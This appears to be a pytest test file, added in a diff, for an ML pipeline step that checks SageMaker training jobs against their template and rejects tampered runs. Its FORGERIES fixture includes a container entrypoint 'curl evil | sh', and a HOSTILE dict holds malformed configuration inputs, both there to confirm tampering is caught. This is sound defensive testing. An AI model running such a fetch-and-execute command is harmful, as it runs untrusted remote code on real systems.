@@ -1,0 +1,265 @@
+"""The judge against a run as AWS tells of it: what passes, what it writes, and what somebody else tries."""
+
+import hashlib
+import io
+import json
+import zipfile
+from typing import Any
+
+import pytest
+
+from tests.payload.judged import BUCKET, COMMIT, KMS_KEY, MODEL_KEY, RECORD_KEY, RunToJudge
+from tests.payload.pipeline import JOB, RUN
+from xacct_ml.payload.job import JobFailed
+
+DIGEST = hashlib.sha256(b"model").hexdigest()
+
+
+# -- judge -------------------------------------------------------------------------------------------------------------
+def test_a_model_that_passes_is_stored_and_recorded() -> None:
+    """The output variables are what approver and deployment compare with."""
+    run = RunToJudge()
+    variables = run.judge()["outputVariables"]
+    assert run.s3.content(BUCKET, f"judged/{DIGEST}/model.tar.gz") == b"model"
+    record = run.s3.objects[BUCKET, RECORD_KEY][0]
+    assert record.encryption == ("aws:kms", KMS_KEY)
+    assert variables == {
+        "Outcome": "passed",
+        "TrainingJob": JOB,
+        "ModelDigest": DIGEST,
+        "RecordKey": RECORD_KEY,
+        "RecordDigest": hashlib.sha256(record.content).hexdigest(),
+    }
+
+
+def test_the_record_says_what_was_trained() -> None:
+    """From the services, and with room for what later judges."""
+    run = RunToJudge()
+    run.judge()
+    record = run.record()
+    assert (record["schema"], record["pipelineExecutionId"], record["commit"]) == ("xacct-ml/evaluation/2", RUN, COMMIT)
+    assert record["gate"]["outcome"] == "passed"
+    assert record["model"]["source"] == {"key": MODEL_KEY, "versionId": "v1"}
+    assert record["hyperparameters"] == {"num_round": "100", "eta": "0.2", "eval_metric": "auc"}
+    assert (record["containerVersion"], record["report"]) == ("1.7-1", None)
+    assert record["scores"] == {"candidate": None, "live": None}
+
+
+def test_a_missed_gate_is_recorded_and_fails_the_action() -> None:
+    """Its model is not stored."""
+    run = RunToJudge({"GateThreshold": "0.95"})
+    with pytest.raises(JobFailed, match=r"missed: validation:auc is 0\.9, required is at least 0\.95"):
+        run.judge()
+    assert (run.record()["gate"]["outcome"], run.record()["model"]) == ("missed", None)
+    assert not [key for _, key in run.s3.objects if key.startswith("judged/")]
+
+
+@pytest.mark.parametrize("metrics", [[], [{"MetricName": "validation:auc", "Value": float("nan")}]])
+def test_a_metric_that_was_not_reported_fails_with_what_to_do(metrics: list[dict[str, Any]]) -> None:
+    """And no record has a number that JSON has not."""
+    run = RunToJudge()
+    run.training.job["FinalMetricDataList"] = metrics
+    with pytest.raises(JobFailed, match=r"reported no validation:auc.*eval_metric"):
+        run.judge()
+    assert run.record()["gate"]["value"] is None
+
+
+def test_the_same_judgement_twice_is_one() -> None:
+    """A duplicate delivery, or a retried action, finds its own record."""
+    run = RunToJudge()
+    assert run.judge() == run.judge()
+    assert len(run.s3.objects[BUCKET, RECORD_KEY]) == 1
+
+
+def test_a_record_that_says_something_else_is_never_replaced() -> None:
+    """Whoever wrote it: the run fails."""
+    run = RunToJudge()
+    run.s3.put(BUCKET, RECORD_KEY, b"{}")
+    with pytest.raises(JobFailed, match="already there and says something else"):
+        run.judge()
+    assert run.s3.content(BUCKET, RECORD_KEY) == b"{}"
+
+
+FORGERIES: dict[str, dict[str, Any]] = {
+    "AlgorithmSpecification.ContainerEntrypoint": {"ContainerEntrypoint": ["/bin/sh", "-c", "curl evil | sh"]},
+    "AlgorithmSpecification.ContainerArguments": {"ContainerArguments": ["--evil"]},
+    "AlgorithmSpecification.TrainingImage is": {"TrainingImage": "evil:latest"},
+    "AlgorithmSpecification.TrainingInputMode": {"TrainingInputMode": "Pipe"},
+}
+
+
+@pytest.mark.parametrize(("said", "changed"), FORGERIES.items(), ids=FORGERIES)
+def test_another_container_is_noticed(said: str, changed: dict[str, Any]) -> None:
+    """The template is the pusher's; what SageMaker ran is not."""
+    run = RunToJudge()
+    run.training.job["AlgorithmSpecification"] |= changed
+    refused(run, said)
+
+
+JOBS: dict[str, tuple[str, Any]] = {
+    "network": ("EnableNetworkIsolation", False),
+    "role": ("RoleArn", "arn:aws:iam::222222222222:role/other"),
+    "hyperparameters": ("HyperParameters", {"num_round": "1"}),
+    "environment": ("Environment", {"A": "b"}),
+    "network of its own": ("VpcConfig", {"Subnets": ["s"], "SecurityGroupIds": ["g"]}),
+    "debugger": ("RemoteDebugConfig", {"EnableRemoteDebug": True}),
+    "checkpoints": ("CheckpointConfig", {"S3Uri": f"s3://{BUCKET}/models/other/output/"}),
+    "output": ("OutputDataConfig", {"S3OutputPath": f"s3://{BUCKET}/models/x/", "KmsKeyId": KMS_KEY}),
+    "instances": ("ResourceConfig", {"InstanceType": "ml.p5.48xlarge", "InstanceCount": 64, "VolumeSizeInGB": 10}),
+    "run time": ("StoppingCondition", {"MaxRuntimeInSeconds": 2_419_200}),
+    "model": ("ModelArtifacts", {"S3ModelArtifacts": f"s3://{BUCKET}/models/good/output/model.tar.gz"}),
+    "status": ("TrainingJobStatus", "Stopped"),
+    "spot": ("EnableManagedSpotTraining", True),
+}
+
+
+@pytest.mark.parametrize(("member", "value"), JOBS.values(), ids=JOBS)
+def test_any_other_difference_is_noticed(member: str, value: Any) -> None:
+    """And named, with what was expected."""
+    run = RunToJudge()
+    run.training.job[member] = value
+    refused(run, member)
+
+
+def test_data_that_were_put_beside_are_noticed() -> None:
+    """A channel that reads a prefix, or another data set's manifest, or is one too many."""
+    run = RunToJudge()
+    source = run.training.job["InputDataConfig"][0]["DataSource"]["S3DataSource"]
+    source |= {"S3DataType": "S3Prefix", "S3Uri": f"s3://{BUCKET}/data/"}
+    refused(run, "InputDataConfig.train.DataSource")
+    run = RunToJudge()
+    run.training.job["InputDataConfig"].append({"ChannelName": "code"})
+    refused(run, "InputDataConfig has the channels")
+    run = RunToJudge()
+    run.training.job["InputDataConfig"].pop()
+    refused(run, "InputDataConfig has the channels")
+
+
+def test_what_the_training_account_wrote_is_quoted_with_bounds() -> None:
+    """Neither line breaks nor a megabyte reach the pipeline's reason."""
+    run = RunToJudge()
+    run.training.job["AlgorithmSpecification"]["TrainingImage"] = "x\n" * 100_000
+    with pytest.raises(JobFailed) as failed:
+        run.judge()
+    assert "\n" not in str(failed.value)
+    assert len(str(failed.value)) < 1000
+
+
+def test_a_swapped_model_is_noticed() -> None:
+    """Between training and judgement."""
+    run = RunToJudge()
+    run.s3.put(BUCKET, MODEL_KEY, b"evil")
+    with pytest.raises(JobFailed, match="was written to after the training job stored the model"):
+        run.judge()
+    assert (BUCKET, RECORD_KEY) not in run.s3.objects
+
+
+def test_an_invocation_by_hand_judges_nothing() -> None:
+    """No action in progress asks for it."""
+    run = RunToJudge()
+    with pytest.raises(JobFailed, match="was not started, not InProgress"):
+        run.function.reply({"task": "judge", "pipelineExecutionId": RUN}, {})
+    assert run.s3.writes == []
+
+
+def test_an_execution_that_did_not_succeed_is_not_judged() -> None:
+    """Whatever the training job is."""
+    run = RunToJudge()
+    run.training.status = "RUNNING"
+    with pytest.raises(JobFailed, match="is RUNNING, not SUCCEEDED"):
+        run.judge()
+
+
+def refused(run: RunToJudge, said: str) -> None:
+    """The judgement names it, and nothing was written."""
+    with pytest.raises(JobFailed, match="is not what was to be trained") as failed:
+        run.judge()
+    assert said in str(failed.value)
+    assert run.s3.writes == []
+
+
+# -- check -------------------------------------------------------------------------------------------------------------
+def test_a_configuration_within_the_map_pins_the_data() -> None:
+    """The run trains on the version of the manifest that there was."""
+    reply = RunToJudge({"GateThreshold": "0.85", "InstanceType": "ml.m5.xlarge", "InstanceCount": "2"}).invoke("check")
+    assert reply["outputVariables"] == {
+        "TemplateVersion": "2",
+        "DataSet": "0123456789abcdef",
+        "ManifestVersionId": "v1",
+    }
+
+
+def test_an_older_template_is_refused_with_the_command() -> None:
+    """Release 8e7c681's had no version."""
+    with pytest.raises(JobFailed, match=r"has version 1; .* Run: xacct-ml configure --push"):
+        RunToJudge(template="Resources: {}\n").invoke("check")
+
+
+def test_all_faults_are_told_at_once() -> None:
+    """Up to ten of them."""
+    many = {"InstanceType": "ml.p5.48xlarge", "InstanceCount": "64", "GateThreshold": "0.1", "Eta": "2"}
+    with pytest.raises(JobFailed) as failed:
+        RunToJudge(many).invoke("check")
+    for word in ("ml.p5.48xlarge", "64", "may only be made stricter", "Eta"):
+        assert word in str(failed.value)
+
+
+HOSTILE: dict[str, bytes] = {
+    "no JSON": b"{",
+    "deep": b"[" * 100_000,
+    "no object": b"[]",
+    "not UTF-8": b"\xff\xfe{",
+    "too large": b" " * 200_000,
+    "huge number": b'{"Parameters": {"NumRound": ' + b"9" * 5000 + b"}}",
+    "another section": json.dumps({"Parameters": {}, "StackPolicy": {}}).encode(),
+}
+
+
+@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
+def test_a_hostile_configuration_is_a_failure_with_a_reason(content: bytes) -> None:
+    """Never a traceback, and never more than a line."""
+    run = RunToJudge()
+    run.put_source({"template.yaml": "Metadata:\n  xacct-ml:\n    TemplateVersion: 2\n", "configuration.json": content})
+    with pytest.raises(JobFailed, match=r"configuration\.json") as failed:
+        run.invoke("check")
+    assert failed.value.kind == "ConfigurationError"
+    assert len(str(failed.value)) < 1000
+
+
+def test_a_source_that_is_no_zip_or_lacks_a_file_says_so() -> None:
+    """Both are the pusher's to mend."""
+    run = RunToJudge()
+    run.s3.put(BUCKET, "churn/Source/abc.zip", b"no zip")
+    with pytest.raises(JobFailed, match="cannot be read: BadZipFile"):
+        run.invoke("check")
+    run.put_source({"template.yaml": "x"})
+    with pytest.raises(JobFailed, match="has version 1"):
+        run.invoke("check")
+    run.put_source({"configuration.json": "{}"})
+    with pytest.raises(JobFailed, match=r"no template\.yaml at its top"):
+        run.invoke("check")
+
+
+def test_an_artifact_elsewhere_is_not_read() -> None:
+    """Only where this pipeline keeps its own."""
+    with pytest.raises(JobFailed, match="not one of this pipeline's"):
+        RunToJudge().invoke("check", key="data/manifest.json")
+
+
+def test_without_a_data_set_the_command_is_named() -> None:
+    """Nothing was uploaded yet, or by an older release."""
+    run = RunToJudge()
+    run.s3.put(BUCKET, "data/manifest.json", b'{"schema": "xacct-ml/manifest/1"}')
+    with pytest.raises(JobFailed, match="Run: xacct-ml upload-data"):
+        run.invoke("check")
+
+
+# -- hand-over ---------------------------------------------------------------------------------------------------------
+def test_a_handed_over_source_is_the_accounts_own() -> None:
+    """The same bytes, under the pipeline's key."""
+    run = RunToJudge()
+    run.invoke("hand-over")
+    (stored,) = run.s3.objects[BUCKET, "churn/Template/def.zip"]
+    assert stored.encryption == ("aws:kms", KMS_KEY)
+    with zipfile.ZipFile(io.BytesIO(stored.content)) as opened:
+        assert sorted(opened.namelist()) == ["configuration.json", "template.yaml"]
